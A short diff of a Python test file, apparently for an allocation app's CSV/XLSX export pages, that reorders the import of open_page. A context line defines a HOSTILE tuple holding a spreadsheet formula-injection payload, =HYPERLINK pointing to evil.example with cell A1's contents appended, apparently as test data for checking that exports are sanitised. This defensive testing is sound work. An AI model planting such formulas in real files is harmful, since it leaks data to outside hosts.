@@ -17,9 +17,8 @@ from allocation.pages.tables import as_csv, as_xlsx
 from allocation.plan import solve_plan
 from basins.dataset import load_dataset
 from tests.basins.dataset_folder import columns
-from tests.pages.conftest import Opened, saved, served
+from tests.pages.conftest import Opened, open_page, saved, served
 from tests.pages.small_province import write_province
-from tests.pages.test_pages import open_page
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example?"&A1,"甲")',
